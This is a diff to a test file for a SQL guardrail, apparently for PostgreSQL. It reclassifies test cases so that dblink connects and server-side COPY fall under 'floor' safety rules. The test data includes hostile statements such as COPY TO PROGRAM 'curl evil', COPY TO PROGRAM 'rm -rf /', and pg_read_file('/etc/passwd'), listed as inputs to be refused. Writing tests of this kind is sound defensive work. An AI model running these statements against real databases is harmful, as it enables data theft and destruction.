@@ -143,7 +143,8 @@ for sql, action in [
     ("CLOSE ALL", "allow"),
     ("PREPARE d AS DELETE FROM orders", "review"),
     ("PREPARE d2 AS DELETE FROM orders WHERE id = $1", "allow"),
-    ("LOCK TABLE orders IN SHARE MODE", "allow"),
+    # A lock can stop every other client: held for review in production.
+    ("LOCK TABLE orders IN SHARE MODE", "review"),
 ]:
     CASES.append(C(sql, action))
 
@@ -317,9 +318,10 @@ for sql, rule in [
     ("SELECT pg_terminate_backend(123)", "floor.server_access"),
     ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "floor.server_access"),
     ("SELECT pg_reload_conf()", "floor.server_access"),
-    # Not a built-in (an extension's): refused unless a guardrail names it.
-    ("SELECT dblink('host=x', 'select 1')", "default.function.unlisted"),
-    ("SELECT dblink_exec('host=x', 'drop table t')", "default.function.unlisted"),
+    # The extension's connects are the safety floor, whatever schema they are in.
+    ("SELECT dblink('host=x', 'select 1')", "floor.remote_server"),
+    ("SELECT public.dblink_exec('host=x', 'drop table t')", "floor.remote_server"),
+    # Not a built-in: refused unless a guardrail names it.
     ("SELECT public.lower('X')", "default.function.unlisted"),
     ("SELECT \"pg_read_file\"('/etc/passwd')", "floor.server_access"),
     ("SELECT PG_READ_FILE('/etc/passwd')", "floor.server_access"),
@@ -343,10 +345,10 @@ for sql, rule in [
         "SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')",
         "mask.dynamic_sql",
     ),
-    ("COPY orders TO '/tmp/orders.csv'", "default.copy_server_side"),
-    ("COPY orders FROM '/tmp/orders.csv'", "default.copy_server_side"),
-    ("COPY orders TO PROGRAM 'curl evil'", "default.copy_server_side"),
-    ("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "default.copy_server_side"),
+    ("COPY orders TO '/tmp/orders.csv'", "floor.copy_server_side"),
+    ("COPY orders FROM '/tmp/orders.csv'", "floor.copy_server_side"),
+    ("COPY orders TO PROGRAM 'curl evil'", "floor.copy_server_side"),
+    ("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "floor.copy_server_side"),
     ("EXPLAIN SELECT pg_read_file('x')", "floor.server_access"),
     ("PREPARE p AS SELECT pg_read_file($1)", "floor.server_access"),
 ]:
